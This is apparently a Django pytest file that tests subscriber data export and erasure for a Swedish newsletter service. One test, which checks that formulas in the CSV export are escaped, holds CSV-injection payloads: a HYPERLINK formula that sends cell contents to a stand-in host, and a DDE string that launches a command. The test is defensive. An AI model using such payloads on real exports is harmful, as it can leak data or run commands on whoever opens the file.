"""Privacy rights: download my data, erase me, and what erasure leaves behind.

Both go through a one-time link mailed to the address (see test_privacy_links.py for the
attacks on it); these tests take that path and check what it does.
"""

import csv
import io
import json
import zipfile

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.messages.storage.fallback import FallbackStorage
from django.core import mail
from django.core.cache import cache
from django.test import RequestFactory

from accounts.models import User
from subscribers.admin_privacy import subscriber_erase_action, subscriber_export_action
from subscribers.models import (
    ConsentAction,
    ConsentEvent,
    ConsentSource,
    Subscriber,
    SubscriberStatus,
    Suppression,
    SuppressionReason,
)
from subscribers.privacy import address_suppressed, subscriber_erase
from subscribers.selectors import subscribers_mailable
from subscribers.services import RequestOrigin
from subscribers.validation import email_hash
from tests.factories import organisation_make, segment_make, subscriber_make
from tests.selfservice.links import (
    path_from_text,
    post_committed,
    preferences_path,
    privacy_link_request,
    unsubscribe_path,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def reader(client):
    cache.clear()
    segment = segment_make(slug="nyheter", name="Nyheter", public=True)
    post_committed(
        client,
        "/prenumerera/",
        {
            "name": "Maja Ek",
            "email": "maja.ek@jarfalla.se",
            "organisation": "Järfälla bibliotek",
            "segments": [segment.pk],
            "channel": "email+print",
            "street": "Riddarplatsen 5",
            "postal_code": "177 30",
            "city": "Järfälla",
            "language": "sv",
        },
        REMOTE_ADDR="198.51.100.7",
        HTTP_USER_AGENT="Safari",
    )
    client.post(path_from_text(mail.outbox[-1].body, "/prenumerera/bekrafta/"))
    return Subscriber.objects.get(email="maja.ek@jarfalla.se")


def export_download(client, reader, file_format: str, **extra):
    link = privacy_link_request(client, reader, "export")
    return post_committed(client, link, {"file_format": file_format}, **extra)


def erase_through_link(client, subscriber, **extra):
    link = privacy_link_request(client, subscriber, "erase")
    return post_committed(client, link, **extra)


def test_it_exports_everything_including_the_consent_log_as_json(client, reader):
    response = export_download(client, reader, "json", REMOTE_ADDR="203.0.113.9")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.json"')
    export = json.loads(response.content)
    assert export["subscriber"]["email"] == "maja.ek@jarfalla.se"
    assert export["subscriber"]["organisation_given"] == "Järfälla bibliotek"
    assert export["segments"] == [{"slug": "nyheter", "name": "Nyheter"}]
    actions = [event["action"] for event in export["consent_events"]]
    assert actions == ["subscribe", "confirm", "export_request", "export"]
    assert export["consent_events"][0]["ip_address"] == "198.51.100.7"
    assert export["consent_events"][-1]["ip_address"] == "203.0.113.9"
    assert [request["kind"] for request in export["privacy_requests"]] == ["export"]
    assert export["consent_events"][0]["privacy_text_version"] == settings.PRIVACY_TEXT_VERSION
    assert export["deliveries"] == []


def test_it_exports_the_same_as_csv_for_swedish_excel(client, reader):
    response = export_download(client, reader, "csv")

    content = response.content.decode()
    assert content.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))
    assert response["Content-Type"].startswith("text/csv")
    assert {"section": "subscriber", "row": "", "field": "city", "value": "Järfälla"} in rows
    consent_actions = [
        row["value"]
        for row in rows
        if row["section"] == "consent_events" and row["field"] == "action"
    ]
    assert consent_actions == ["subscribe", "confirm", "export_request", "export"]


def test_it_keeps_formulas_in_the_csv_export_as_text(client):
    # Everything in a sign-up is typed by whoever signs up, the browser string included.
    hostile_name = '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")'
    hostile_browser = "@SUM(1+9)*cmd|' /C calc'!A0"
    post_committed(
        client,
        "/prenumerera/",
        {
            "name": hostile_name,
            "email": "formel@example.se",
            "organisation": "+46 8 123 45 67",
            "channel": "email",
            "language": "sv",
        },
        HTTP_USER_AGENT=hostile_browser,
    )
    client.post(path_from_text(mail.outbox[-1].body, "/prenumerera/bekrafta/"))
    subscriber = Subscriber.objects.get(email="formel@example.se")

    response = export_download(client, subscriber, "csv")

    content = response.content.decode().removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(content), delimiter=";"))
    cells = {(row["section"], row["row"], row["field"]): row["value"] for row in rows}
    assert cells[("subscriber", "", "name")] == "'" + hostile_name
    assert cells[("subscriber", "", "organisation_given")] == "'+46 8 123 45 67"
    assert cells[("consent_events", "1", "user_agent")] == "'" + hostile_browser
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_start)]


def test_it_asks_before_erasing_when_the_link_is_opened(client, reader):
    link = privacy_link_request(client, reader, "erase")

    response = client.get(link)

    assert response.status_code == 200
    assert "Ja, radera mina uppgifter" in response.content.decode()
    assert Subscriber.objects.get(pk=reader.pk).status == SubscriberStatus.ACTIVE


def test_it_erases_the_person_but_keeps_the_row_and_the_hash(client, reader):
    old_preferences, old_unsubscribe = preferences_path(reader), unsubscribe_path(reader)
    address_hash = reader.email_hash

    response = erase_through_link(client, reader, REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT="Edge")

    assert response.status_code == 200
    erased = Subscriber.objects.get(pk=reader.pk)
    assert erased.status == SubscriberStatus.ERASED
    assert erased.email == f"erased-{reader.pk}@erased.invalid"
    assert (erased.name, erased.street, erased.postal_code, erased.city) == ("", "", "", "")
    assert erased.organisation_given == ""
    assert erased.email_hash == address_hash
    suppression = Suppression.objects.get(email_hash=address_hash)
    assert (suppression.reason, suppression.email) == (SuppressionReason.ERASED, "")
    events = list(ConsentEvent.objects.filter(subscriber=erased).order_by("id"))
    erase_event = events.pop()
    assert (erase_event.action, erase_event.source) == (ConsentAction.ERASE, ConsentSource.EMAIL)
    # Who had the person erased is the one detail kept, as for every other event.
    assert (erase_event.ip_address, erase_event.user_agent) == ("203.0.113.9", "Edge")
    assert not any(event.ip_address or event.user_agent for event in events)
    assert "Riddarplatsen" not in json.dumps([event.detail for event in [*events, erase_event]])
    assert Subscriber.objects.count() == 1
    assert client.get(old_preferences).status_code == 400
    assert client.post(old_unsubscribe).status_code == 400


def test_it_keeps_an_erased_address_out_until_a_fresh_double_opt_in(client, reader):
    erase_through_link(client, reader)
    assert address_suppressed(email="Maja.Ek@jarfalla.se")

    post_committed(
        client,
        "/prenumerera/",
        {"name": "Maja Ek", "email": "maja.ek@jarfalla.se", "channel": "email", "language": "sv"},
    )
    again = Subscriber.objects.get(email="maja.ek@jarfalla.se")
    assert again.pk != reader.pk
    assert again.status == SubscriberStatus.PENDING
    assert address_suppressed(email="maja.ek@jarfalla.se")
    assert not subscribers_mailable(segments=reader.segments.all()).exists()

    client.post(path_from_text(mail.outbox[-1].body, "/prenumerera/bekrafta/"))
    again.refresh_from_db()
    assert again.status == SubscriberStatus.ACTIVE
    assert not address_suppressed(email="maja.ek@jarfalla.se")
    confirm = again.consent_events.get(action=ConsentAction.CONFIRM)
    assert confirm.detail["suppression_lifted"] == ["erased"]


def _admin_request(user: User, data: dict | None = None):
    request = RequestFactory().post("/admin/subscribers/subscriber/", data or {})
    request.user = user
    request.session = {}
    request._messages = FallbackStorage(request)
    return request


@pytest.fixture
def staff():
    return User.objects.create_superuser(username="handlaggare", password="x", email="h@x.se")


def test_it_lets_staff_export_one_persons_data_from_the_admin(reader, staff):
    modeladmin = admin.ModelAdmin(Subscriber, admin.site)

    response = subscriber_export_action(
        modeladmin, _admin_request(staff), Subscriber.objects.filter(pk=reader.pk)
    )

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    exported = json.loads(archive.read(f"prenumerant-{reader.pk}.json"))
    assert exported["consent_events"][-1]["action"] == "export"
    assert exported["consent_events"][-1]["source"] == "admin"
    assert f"prenumerant-{reader.pk}.csv" in archive.namelist()
    two = Subscriber.objects.filter(pk__in=[reader.pk, subscriber_make().pk])
    assert subscriber_export_action(modeladmin, _admin_request(staff), two) is None


def test_it_lets_staff_erase_from_the_admin_after_confirming(reader, staff):
    modeladmin = admin.ModelAdmin(Subscriber, admin.site)
    selected = Subscriber.objects.filter(pk=reader.pk)

    confirmation = subscriber_erase_action(modeladmin, _admin_request(staff), selected)
    assert confirmation.status_code == 200
    assert Subscriber.objects.get(pk=reader.pk).status == SubscriberStatus.ACTIVE

    subscriber_erase_action(modeladmin, _admin_request(staff, {"erase_confirmed": "yes"}), selected)
    erased = Subscriber.objects.get(pk=reader.pk)
    assert erased.status == SubscriberStatus.ERASED
    event = erased.consent_events.get(action=ConsentAction.ERASE)
    assert (event.source, event.staff_user) == ("admin", staff)


def test_it_keeps_the_organisation_link_so_counts_per_organisation_stay_right(client):
    library = organisation_make(name="Vallentuna bibliotek", municipality="Vallentuna")
    member = subscriber_make(organisation=library)

    erase_through_link(client, member)

    assert library.subscribers.get().status == SubscriberStatus.ERASED


def test_it_keeps_a_staff_block_through_erasure_and_never_mails_a_blocked_address(client):
    blocked = subscriber_make(email="spärrad@example.se")
    Suppression.objects.create(email=blocked.email, reason=SuppressionReason.MANUAL)

    subscriber_erase(subscriber=blocked, origin=RequestOrigin(), source=ConsentSource.ADMIN)
    post_committed(
        client,
        "/prenumerera/",
        {"name": "Någon", "email": "spärrad@example.se", "channel": "email", "language": "sv"},
    )

    suppression = Suppression.objects.get(email_hash=email_hash("spärrad@example.se"))
    assert suppression.reason == SuppressionReason.MANUAL and suppression.email == ""
    assert mail.outbox == []
